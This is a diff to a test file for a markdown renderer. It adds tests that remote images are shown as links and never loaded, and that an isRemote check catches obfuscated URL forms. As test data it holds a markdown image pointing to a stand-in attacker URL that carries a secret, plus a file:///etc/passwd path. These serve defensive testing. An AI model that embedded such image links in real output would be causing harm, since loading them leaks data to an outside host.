@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { renderMarkdown } from './markdown';
+import { isRemote, renderMarkdown } from './markdown';
 
 describe('renderMarkdown', () => {
   it('renders markdown and highlights code', () => {
@@ -13,5 +13,22 @@ describe('renderMarkdown', () => {
     expect(html).not.toContain('<script');
     expect(html).not.toContain('javascript:');
     expect(html).toContain('&lt;script&gt;');
+  });
+  it('shows a remote image as a link and loads nothing', () => {
+    const html = renderMarkdown('![chart](http://evil.example/leak?secret=abc "t") and ![p](images/plot.png)');
+    const doc = new DOMParser().parseFromString(html, 'text/html');
+    const imgs = [...doc.querySelectorAll('img')].map((i) => i.getAttribute('src'));
+    expect(imgs).toEqual(['images/plot.png']);
+    const link = doc.querySelector('a.remote-image');
+    expect(link?.getAttribute('href')).toBe('http://evil.example/leak?secret=abc');
+    expect(link?.textContent).toContain('image: chart (remote, not loaded)');
+  });
+  it('takes every form of another host for remote', () => {
+    for (const h of ['https://x/y.png', '//x/y.png', '\\\\x\\y', '/\\x/y', 'HTTP://X', 'ht\ttp://x', 'file:///etc/passwd', ' ftp://x']) {
+      expect(isRemote(h), h).toBe(true);
+    }
+    for (const h of ['images/a.png', '/appicon.png', 'data:image/png;base64,AA', 'blob:abc']) {
+      expect(isRemote(h), h).toBe(false);
+    }
   });
 });
